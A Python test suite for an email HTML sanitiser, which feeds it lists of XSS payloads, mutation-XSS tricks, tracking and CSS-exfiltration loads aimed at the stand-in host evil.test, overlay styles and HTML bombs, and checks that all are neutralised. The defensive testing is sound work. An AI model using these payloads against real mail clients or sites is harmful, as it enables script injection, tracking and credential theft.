"""Nothing in a mail runs, fetches, overlays or submits; what makes it readable stays.

The vectors are ours. A tree builder of another kind (libxml2) looks at what is left.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from emailhub.mail.frame import frame_document
from emailhub.mail.sanitise import MAX_HTML, TooComplexError, sanitise, sanitise_outgoing
from emailhub.mail.show import show
from emailhub.mail.styles import clean_style

SCRIPTS = """
<script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1)></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<noembed><img src=x onerror=alert(1)></noembed>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="javascript:alert(1)//">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.test/">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="https://evil.test/x">
<a href="javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x2028;javascript:alert(1)">x</a>
<a href="jAvAsCrIpT&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://dealer.example/1">x</a>
<a href="//evil.test/">x</a>
<a href="/logout">x</a>
<a href="logout">x</a>
<a href="\\\\evil.test\\x">x</a>
<a href="https:evil">x</a>
<a href="https:///evil.test">x</a>
<a href=https://ok.example/ onclick=alert(1)>x</a>
<a href=https://ok.example/ ping=https://evil.test/>x</a>
<a href=https://ok.example/ target=_top>x</a>
<a href=https://ok.example/ download>x</a>
<form action="https://evil.test/"><input name=password type=password autofocus onfocus=alert(1)></form>
<button formaction="javascript:alert(1)">x</button>
<isindex action=https://evil.test/>
<select><option><img src=x onerror=alert(1)></select>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<div id=app name=cookie class=danger data-x=1 contenteditable tabindex=1 accesskey=x>x</div>
<form id=document name=forms><input name=cookie></form>
<p slot=x is=x-evil part=x>x</p>
<portal src=https://evil.test></portal>
<dialog open>x</dialog>
<b/onmouseover=alert(1)>x</b>
<img/src="x"/onerror=alert(1)>
<<img src=x onerror=alert(1)//
<a title="&quot; onmouseover=&quot;alert(1)">x</a>
""".strip().splitlines()

LOADS = """
<img src=https://evil.test/x.png>
<img src=//evil.test/x.png>
<img src="&#10;https://evil.test/x.png">
<img src="http:/\\evil.test/x.png">
<img srcset="https://evil.test/x.png 2x">
<img src=/tickets/1/closure/>
<img src=ftp://evil.test/x>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html;base64,PHNjcmlwdD4=">
<img lowsrc=https://evil.test/x dynsrc=https://evil.test/y longdesc=https://evil.test/z>
<picture><source srcset=https://evil.test/x.png><img></picture>
<input type=image src=https://evil.test/x.png>
<video poster=https://evil.test/x.png src=https://evil.test/v></video>
<audio src=https://evil.test/a></audio>
<track src=https://evil.test/t>
<table background=https://evil.test/x.png><td background=https://evil.test/y.png>x</table>
<body background=https://evil.test/x.png>
<p style="background:url(https://evil.test/x.png)">x</p>
<p style="background:url('https://evil.test/x.png">x</p>
<p style="background:url(https://evil.test/x.png">x</p>
<p style="background:u\\72l(https://evil.test/x.png)">x</p>
<p style="background:/**/url(https://evil.test/x.png)">x</p>
<p style="background-image:image-set('https://evil.test/x.png' 1x)">x</p>
<p style="background:-webkit-image-set(url(https://evil.test/x.png) 1x)">x</p>
<p style="background:cross-fade(url(https://evil.test/x.png),#fff)">x</p>
<p style="list-style:url(https://evil.test/x.png)">x</p>
<p style="list-style-image:url(https://evil.test/x.png)">x</p>
<p style="border-image:url(https://evil.test/x.png)">x</p>
<p style="cursor:url(https://evil.test/x.cur),auto">x</p>
<p style="content:url(https://evil.test/x.png)">x</p>
<p style="filter:url(https://evil.test/x.svg#f)">x</p>
<p style="mask:url(https://evil.test/x.svg#m)">x</p>
<p style="--a:url(https://evil.test/x.png);background:var(--a)">x</p>
<p style="width:attr(data-x);color:env(x)">x</p>
<p style="behavior:url(https://evil.test/x.htc);-moz-binding:url(https://evil.test/x.xml#a)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="@import 'https://evil.test/x.css';color:red">x</p>
<p style="font-family:'x';src:url(https://evil.test/f.woff)">x</p>
<style>@import "https://evil.test/x.css";</style>
<style>p{background:url(https://evil.test/x.png)}</style><p>x</p>
<style>@font-face{font-family:x;src:url(https://evil.test/f)} p{font-family:x}</style><p>x</p>
<style>input[value^=a]{background:url(https://evil.test/a)}</style>
<link rel=stylesheet href=https://evil.test/x.css>
<link rel=preload as=image href=https://evil.test/x.png>
<link rel=dns-prefetch href=//evil.test>
<svg><image href=https://evil.test/x.png /></svg>
<svg><use href=https://evil.test/x.svg#a /></svg>
<svg><filter><feImage href=https://evil.test/x.png /></filter></svg>
<svg><rect fill="url(https://evil.test/x.svg#a)"/></svg>
<iframe src=https://evil.test/></iframe>
<object data=https://evil.test/></object>
<embed src=https://evil.test/>
<frameset><frame src=https://evil.test/></frameset>
<bgsound src=https://evil.test/x>
<script src=https://evil.test/x.js></script>
<blockquote cite=https://evil.test/>x</blockquote>
<v:rect><v:fill src="https://evil.test/x.png"/></v:rect>
<html manifest=https://evil.test/m><head profile=https://evil.test/p>
""".strip().splitlines()

OVERLAYS = """
position:fixed;top:0;left:0
position : FIXED
p\\6fsition:fixed
/**/position:fixed
position:sticky;z-index:9999
transform:scale(100)
animation:x 1s
transition:all 1s
opacity:.01;pointer-events:none
inset:0
clip-path:circle(10px)
-webkit-transform:scale(9)
width:100px;position:absolute
color:red}body{position:fixed
""".strip().splitlines()

SAFE_NAMES = """
    a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col
    colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins
    kbd li main mark nav ol p pre q s samp section small span strike strong sub sup table tbody td tfoot
    th thead tr tt u ul var wbr html body
"""
SAFE_TAGS = frozenset(SAFE_NAMES.split())
SAFE_URL = re.compile(
    r"https?://[^/]|mailto:|tel:|cid:|data:image/(png|jpe?g|gif|webp);base64,|/part/|/proxy\?"
)


def assert_inert(html: str) -> None:
    """What two tree builders could find in `html` neither runs nor fetches."""
    if not html.strip():
        return
    root = etree.fromstring(html.encode(), parser=etree.HTMLParser(encoding="utf-8"))
    for element in [] if root is None else root.iter():
        assert isinstance(element.tag, str), element
        assert element.tag in SAFE_TAGS
        for name, value in element.attrib.items():
            assert not name.startswith(("on", "data-", "xlink", "form"))
            assert name not in ("id", "name", "srcset", "background", "action", "ping", "poster")
            if name in ("href", "src"):
                assert SAFE_URL.match(value), value
            if name == "class":
                assert value == "MsoNormal"
            if name == "style":
                assert not re.search(
                    r"url|image|expression|import|var|attr|\\|/\*|position|transform|@", value
                )


def unordered(html: str) -> str:
    """What we add to links stands sometimes before, sometimes behind."""
    return re.sub(r' (?:rel|target)="[^"]*"', "", html)


@pytest.mark.parametrize("vector", SCRIPTS + LOADS)
def test_nothing_in_a_mail_runs_or_fetches(vector: str) -> None:
    for before in ("", "<div>", "<table><tr><td>", "<svg>", "<!--"):
        html = before + vector
        result = sanitise(html).html
        assert_inert(result)
        assert not re.search(r"<[^>]*evil\.test", result)
        assert unordered(sanitise(result).html) == unordered(result)  # reading it again changes nothing
        assert_inert(sanitise_outgoing(html))


@pytest.mark.parametrize("style", OVERLAYS)
def test_no_style_leaves_its_place(style: str) -> None:
    assert not re.search(
        r"position|transform|inset|opacity|animation|transition|clip|z-index|top|\}", clean_style(style)
    )


FRAGMENTS = st.sampled_from(
    [*SCRIPTS, *LOADS, "<", ">", '"', "'", "&lt;", "<!--", "-->", "</p>", "<p", " style=", "=", "/", "<svg>",
     "</svg>", "<math>", "<style>", "</style>", "<table>", "<td>", "&#x3c;", "\x00", "\u2028", "x"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(FRAGMENTS, max_size=8).map("".join))
def test_no_mixture_of_them_does_either(html: str) -> None:
    result = sanitise(html).html
    assert_inert(result)
    assert unordered(sanitise(result).html) == unordered(result)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters() | st.sampled_from("<>&\"'/= \n"), max_size=200))
def test_any_text_is_taken(html: str) -> None:
    assert_inert(sanitise(html.encode("utf-8", "replace").decode()).html)


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("abcur(l)'\";:/*\\@#-! \n{}0%,.") | st.characters(), max_size=60))
def test_any_style_is_harmless(style: str) -> None:
    for value in (style, f"color:{style}", f"background:{style}", f"font-family:{style}"):
        assert not re.search(r"url\(|\\|@|[{}]", clean_style(value), re.IGNORECASE)


# --- What must survive -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        '<p class="MsoNormal" style="margin:0cm;font-size:11.0pt;color:#1F497D">Hola</p>',
        '<font color="red" face="Arial, sans-serif" size="+1">x</font>',
        '<table border="0" cellpadding="0" cellspacing="0" width="600" bgcolor="#ffffff"><tbody>'
        '<tr><td colspan="2" valign="top" width="50%" style="padding:0cm 5.4pt;background:#eee">x</td></tr>'
        "</tbody></table>",
        '<div dir="rtl" lang="ar">سلام</div>',
        '<ol start="3" type="a"><li value="4">x</li></ol><ul><li>y</li></ul>',
        "<pre>  a\n    b</pre>",
        '<blockquote style="border-left:1px solid rgb(204,204,204);padding-left:1ex">x</blockquote>',
        "<b>a</b><i>b</i><u>c</u><s>d</s><sub>e</sub><sup>f</sup><hr><h1>g</h1>",
        '<p style="width:calc(100% - 10px);color:rgba(0,0,0,.5)">x</p>',
    ],
)
def test_what_makes_a_mail_readable_survives(html: str) -> None:
    assert sanitise(html).html == html


def test_quoted_font_names_survive() -> None:
    assert clean_style('font-family:"Segoe UI",Arial') == 'font-family:"Segoe UI",Arial'


def test_the_colour_of_a_background_with_a_picture_survives() -> None:
    assert clean_style("background:#eee url(https://evil.test/x.png) no-repeat") == "background:#eee"


def test_the_rules_of_a_stylesheet_become_styles() -> None:
    result = sanitise("<style>.head {color: red; position: fixed}</style><p class=head>x</p>").html
    assert result == '<p style="color:red">x</p>'


def test_links_open_apart_and_tell_nothing() -> None:
    result = sanitise('<a href=" HTTPS://ok.example/a?b=c&amp;d ">x</a>').html
    assert 'href="HTTPS://ok.example/a?b=c&amp;d"' in result
    assert 'target="_blank"' in result
    assert 'rel="noopener noreferrer nofollow"' in result


@pytest.mark.parametrize("url", ["mailto:ana@dealer.example", "tel:+34911234567", "http://ok.example/"])
def test_links_to_people_stay(url: str) -> None:
    assert f'href="{url}"' in sanitise(f'<a href="{url}">x</a>').html


# --- Images ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    ["cid:logo@x", "CID:logo@x", "cid:LOGO@X", "cid:<logo@x>", "cid:logo%40x", " cid:logo@x", "image1.png"],
)
def test_an_inline_image_is_shown_from_its_part(source: str) -> None:
    cid = {"logo@x": "/part/7", "image1.png": "/part/7"}
    assert sanitise(f'<img src="{source}" alt="logo">', cid=cid).html == '<img src="/part/7" alt="logo">'


def test_a_cid_that_no_part_has_shows_nothing() -> None:
    assert (
        sanitise('<img src="cid:other@y" alt="logo">', cid={"logo@x": "/part/7"}).html == '<img alt="logo">'
    )


def test_a_mail_cannot_name_our_urls_itself() -> None:
    result = sanitise(
        '<img src="cid:a"><img src="/part/8"><a href="/part/7">x</a>', cid={"a": "/part/7"}
    ).html
    assert result.count("/part/") == 1


def test_remote_images_are_left_out_and_counted() -> None:
    result = sanitise('<img src="https://a.example/1.png" alt="a"><img src="//a.example/2.png"><img src="x">')
    assert result.blocked_images == 2
    assert result.html == '<img alt="a"><img><img>'


def test_remote_images_come_by_way_of_us_when_they_are_wanted() -> None:
    result = sanitise('<img src="//a.example/1.png?a=b">', image_url=lambda url: f"/proxy?u={url}")
    assert result.html == '<img src="/proxy?u=https://a.example/1.png?a=b">'
    assert result.blocked_images == 0
    assert sanitise('<img src="https://a.example/1">', image_url=lambda url: None).html == "<img>"


def test_small_raster_images_in_the_html_itself_stay() -> None:
    image = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert sanitise(image).html == image
    assert sanitise(f'<img src="data:image/png;base64,{"A" * 300_000}">').html == "<img>"


def test_outgoing_images_go_by_cid_or_not_at_all() -> None:
    html = (
        '<img src="blob:https://d.example/1"><img src="cid:old"><img src="https://a.example"><img src="/p/1">'
    )
    result = sanitise_outgoing(html, images={"blob:https://d.example/1": "cid:new@d", "/p/1": "cid:p1@d"})
    assert result == '<img src="cid:new@d"><img><img><img src="cid:p1@d">'
    assert sanitise_outgoing(html) == '<img><img src="cid:old"><img><img>'


# --- Bombs -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<table><tr><td>" * 350_000,
        "<div>" * 600 + "x",
        "<font color=red>" * 600,
        "x" * (MAX_HTML + 1),
        '<div title="</div>">' * 80_000,
        "&" * 900_000,
    ],
    ids=["5 MB of nested tables", "divs", "fonts", "long", "false ends", "references"],
)
def test_a_bomb_is_refused_and_its_text_shown(html: str) -> None:
    with pytest.raises(TooComplexError):
        sanitise(html)
    assert (
        show(html, "The text <b>part</b>").html == '<div class="plain">The text &lt;b&gt;part&lt;/b&gt;</div>'
    )


def test_a_long_ordinary_mail_is_none() -> None:
    row = "<tr><td><p>unclosed<td><ul><li>a<li>b</ul></tr>"
    assert sanitise("<table>" + row * 10_000 + "</table>").html.count("unclosed") == 10_000


# --- The frame ---------------------------------------------------------------------------------------------


def test_the_frame_has_no_script_and_folds_the_history() -> None:
    document = frame_document("<p>new</p>", lang="es", history="<p>old</p>", history_label='Más <"')
    assert document.startswith('<!doctype html><html lang="es"><head><meta charset="utf-8">')
    assert "<script" not in document
    assert '<base target="_blank">' in document
    assert '<details class="history"><summary>Más &lt;&quot;</summary><p>old</p></details>' in document
    assert "<details" not in frame_document("<p>new</p>", lang='"><script>')
    assert "<script" not in frame_document("<p>new</p>", lang='"><script>')


def test_a_mail_is_shown_with_its_history_apart() -> None:
    shown = show(
        '<p>New<img src="https://a.example/1"></p><blockquote type="cite"><script>x</script>Old</blockquote>',
        "New",
    )
    assert "New" in shown.html
    assert "Old" not in shown.html
    assert "Old" in shown.history
    assert shown.blocked_images == 1
    assert_inert(shown.html + shown.history)


def test_a_mail_without_html_is_shown_as_text() -> None:
    shown = show("", "New\n> Old\n")
    assert shown.html.startswith('<div class="plain">New')
    assert "<blockquote>" in shown.history
